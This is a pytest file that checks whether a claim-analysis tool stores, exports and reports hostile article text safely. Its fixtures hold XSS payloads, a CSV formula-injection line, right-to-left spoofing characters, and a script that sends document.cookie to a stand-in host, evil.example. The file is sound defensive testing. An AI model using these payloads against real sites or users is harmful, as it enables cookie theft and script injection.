"""Hostile content through analyze -> export (JSON, JSONL, CSV) -> HTML report.

An article built to attack whoever renders it: script tags, event handlers,
``javascript:`` URLs, CSS expressions, a ``</textarea>`` breakout, a 100,000-character
line, a right-to-left override and zero-width characters — in its text and in its
metadata (``meta.jsonl``), plus an HTML page that carries live ``<script>`` elements and
the same payloads as escaped text.  What must hold (the browser-side proof that the
report and web UI render it inert lives with the report/web tests):

* the text is stored verbatim (offsets stay true) and the metadata too;
* every export is valid JSON / JSON lines, and CSV cells cannot start a formula;
* live markup of an HTML page never reaches the ledger as markup;
* the HTML report contains none of the payloads as live markup, and shows the
  invisible/bidi characters as visible badges instead of raw.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
from collections.abc import Callable
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from tests.reliability.helpers import CheckLedger, export_json

RunCli = Callable[..., subprocess.CompletedProcess[str]]

SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"
JS_URL = "javascript:alert(document.cookie)"
CSS = '<div style="width: expression(alert(1))">'
TEXTAREA = "</textarea><script>alert(2)</script>"
RLO = "\u202e"
ZW = "\u200b"
LONG_LINE = ("Rescue teams said about 400 people were still missing near the dam. " * 1500)[:100_000]

TEXT = (
    f"Dam failure floods valley towns {SCRIPT}\n"
    f"Officials said {SCRIPT} that about 2,000 people were evacuated from the valley on Monday.\n"
    f"A spokesman for the fire service said at least 35 people were injured {IMG} in Riverton.\n"
    f"The mayor, whose office posted a link ({JS_URL}), said 12 bridges had been closed.\n"
    f"Engineers said the spillway {CSS} had carried 1,500 cubic metres a second before it failed.\n"
    f"Police said {TEXTAREA} about 80 officers were directing traffic away from the valley.\n"
    f"Witnesses said the water was {RLO}3 metres deep{ZW} in the town square by noon, the police said.\n"
    f"=HYPERLINK(\"http://evil.example\",\"about 500 homes\") were damaged, the council said.\n"
    "+1+1 more than 90 roads were blocked, according to the highways agency.\n"
    "@SUM(A1:A9) nearly 60 schools were shut on Tuesday, the education office said.\n"
    f"{LONG_LINE}\n"
    f"The regional governor said{ZW} about 3,000 people had been moved to shelters by Tuesday night.\n"
)
META = {
    "file": "hostile.txt",
    "title": f"{SCRIPT} Dam failure {RLO}gnp.exe",
    "outlet": IMG,
    "author": f"{JS_URL} {ZW}Jane Doe",
    "url": JS_URL,
    "published": "2024-11-14",
}
HTML = """<!DOCTYPE html><html><head>
<title>Levee breach: &lt;script&gt;alert(3)&lt;/script&gt;</title>
<meta name="author" content="&lt;img src=x onerror=alert(4)&gt;">
<meta property="og:site_name" content="Evil &lt;b onmouseover=alert(5)&gt;News">
<script>alert("live script in head")</script>
</head><body><article>
<h1>Levee breach floods farmland</h1>
<p>Officials said on Monday that about 4,000 hectares of farmland were flooded when the levee broke.</p>
<script>document.location = "https://evil.example/?c=" + document.cookie</script>
<p onclick="alert(6)">Farmers said &lt;script&gt;alert(7)&lt;/script&gt; at least 150 cattle had drowned.</p>
<p>The agency said <a href="javascript:alert(8)">its map</a> showed 25 villages cut off by the water.</p>
<p style="background:url(javascript:alert(9))">Volunteers said about 600 sandbags an hour were being filled.</p>
<iframe src="https://evil.example/frame"></iframe>
</article></body></html>
"""


@dataclass
class Hostile:
    folder: Path
    db: Path
    proc: subprocess.CompletedProcess[str]
    export: dict[str, Any]

    def doc(self, doc_id: str) -> dict[str, Any]:
        [d] = [d for d in self.export["documents"] if d["id"] == doc_id]
        return d


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Hostile:
    from tests.conftest import cli_command, cli_env

    root = tmp_path_factory.mktemp("hostile")
    folder, db = root / "story", root / "ledger.db"
    folder.mkdir()
    # newline="" so the file holds exactly TEXT (no platform newline translation)
    with (folder / "hostile.txt").open("w", encoding="utf-8", newline="") as fh:
        fh.write(TEXT)
    (folder / "levee.html").write_text(HTML, encoding="utf-8")
    (folder / "meta.jsonl").write_text(json.dumps(META) + "\n", encoding="utf-8")
    proc = subprocess.run(cli_command("analyze", folder, "--db", db), capture_output=True, text=True,
                          encoding="utf-8", env=cli_env(), timeout=600, check=False)
    assert "Traceback" not in proc.stderr, proc.stderr
    return Hostile(folder, db, proc, export_json(db))


def test_hostile_article_is_analysed_without_failures(hostile: Hostile, assert_check_ok: CheckLedger) -> None:
    assert hostile.proc.returncode == 0, hostile.proc.stderr
    assert {d["id"] for d in hostile.export["documents"]} == {"hostile.txt", "levee.html"}
    assert [c for c in hostile.export["claims"] if c["doc"] == "hostile.txt"], "no claims: nothing was tested"
    assert_check_ok(hostile.db)


def test_text_and_metadata_are_stored_verbatim(hostile: Hostile) -> None:
    """Escaping is the renderer's job: the ledger keeps exactly what the article said."""
    doc = hostile.doc("hostile.txt")
    assert doc["text"] == TEXT
    assert (doc["title"], doc["outlet"], doc["author"], doc["url"]) == (META["title"], META["outlet"],
                                                                        META["author"], META["url"])
    for c in hostile.export["claims"]:
        if c["doc"] == "hostile.txt":
            assert doc["text"][c["start"]:c["end"]] == c["text"]


def test_live_markup_of_a_page_never_reaches_the_ledger(hostile: Hostile) -> None:
    """Scripts, iframes and attributes are dropped by extraction; escaped text stays text."""
    doc = hostile.doc("levee.html")
    text = doc["text"]
    assert "about 4,000 hectares" in text
    assert "document.cookie" not in text and "live script" not in text
    assert "onclick" not in text and "evil.example" not in text and "javascript:alert(8)" not in text
    assert "<script>alert(7)</script>" in text  # what the reader saw on the page, as text


def test_json_export_is_valid_and_round_trips_the_payloads(hostile: Hostile, run_cli: RunCli,
                                                           tmp_path: Path) -> None:
    out = tmp_path / "export.json"
    proc = run_cli("export", "--db", hostile.db, "--format", "json", "--output", out)
    assert proc.returncode == 0, proc.stderr
    data = json.loads(out.read_text(encoding="utf-8"))
    assert data["schema"] == "claimledger-export/1"
    assert [d["text"] for d in data["documents"] if d["id"] == "hostile.txt"] == [TEXT]


def test_export_import_export_is_identical(hostile: Hostile, run_cli: RunCli, tmp_path: Path) -> None:
    """Hostile text survives the round trip through ``claimledger import`` byte for byte."""
    first, second, db = tmp_path / "1.json", tmp_path / "2.json", tmp_path / "imported.db"
    assert run_cli("export", "--db", hostile.db, "--output", first).returncode == 0
    proc = run_cli("import", first, "--db", db)
    assert proc.returncode == 0, proc.stderr
    assert run_cli("export", "--db", db, "--output", second).returncode == 0
    assert second.read_bytes() == first.read_bytes()


def test_jsonl_export_is_one_valid_object_per_line(hostile: Hostile, run_cli: RunCli) -> None:
    proc = run_cli("export", "--db", hostile.db, "--format", "jsonl")
    assert proc.returncode == 0, proc.stderr
    lines = proc.stdout.splitlines()
    rows = [json.loads(line) for line in lines]
    assert len(lines) == len(rows) >= 3
    assert any(r["type"] == "document" and r["text"] == TEXT for r in rows)


def test_csv_export_defuses_formula_injection(hostile: Hostile, run_cli: RunCli) -> None:
    proc = run_cli("export", "--db", hostile.db, "--format", "csv")
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.DictReader(io.StringIO(proc.stdout)))
    assert len(rows) == len(hostile.export["claims"])
    numeric = {"start", "end", "low", "high", "figure"}
    for row in rows:
        for name, cell in row.items():
            if name in numeric:
                if cell:
                    float(cell)  # a number, not a formula
                continue
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), f"{name}: {cell[:60]!r}"
    sentences = [r["sentence"] for r in rows]
    assert any(s.startswith("'=HYPERLINK") for s in sentences), "no claim from the =HYPERLINK line: test vacuous"


class _Markup(HTMLParser):
    """Collects the live markup of a page: tags with their attributes, and script bodies."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.scripts: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))
        self._in_script = tag == "script"

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script:
            self.scripts.append(data)


def test_report_renders_payloads_as_text(hostile: Hostile, run_cli: RunCli, tmp_path: Path) -> None:
    """Parse the report as a browser would and look for any payload that became markup."""
    out = tmp_path / "report.html"
    proc = run_cli("report", "--db", hostile.db, "--output", out)
    assert proc.returncode == 0, proc.stderr
    html = out.read_text(encoding="utf-8")
    page = _Markup()
    page.feed(html)
    page.close()
    for tag, attrs in page.tags:
        assert tag not in ("iframe", "object", "embed", "base", "textarea"), f"live <{tag}> in the report"
        for name, value in attrs:
            v = (value or "").strip().lower()
            assert not (name.startswith("on") and ("alert" in v or "cookie" in v)), f"<{tag} {name}={value!r}>"
            assert not v.startswith(("javascript:", "vbscript:", "data:text/html")), f"<{tag} {name}={value!r}>"
            assert not (name == "style" and ("expression(" in v or "javascript:" in v)), f"<{tag} style={value!r}>"
        if tag == "img":
            assert all(n != "onerror" for n, _ in attrs), attrs
    for body in page.scripts:  # the report's own script only
        assert "alert(" not in body and "document.cookie" not in body and "evil.example" not in body
    # the payloads are there for the reader to see, escaped
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "&lt;/textarea&gt;&lt;script&gt;alert(2)" in html
    # direction overrides and zero-width characters are shown, not obeyed
    assert RLO not in html and ZW not in html
    assert "U+202E" in html
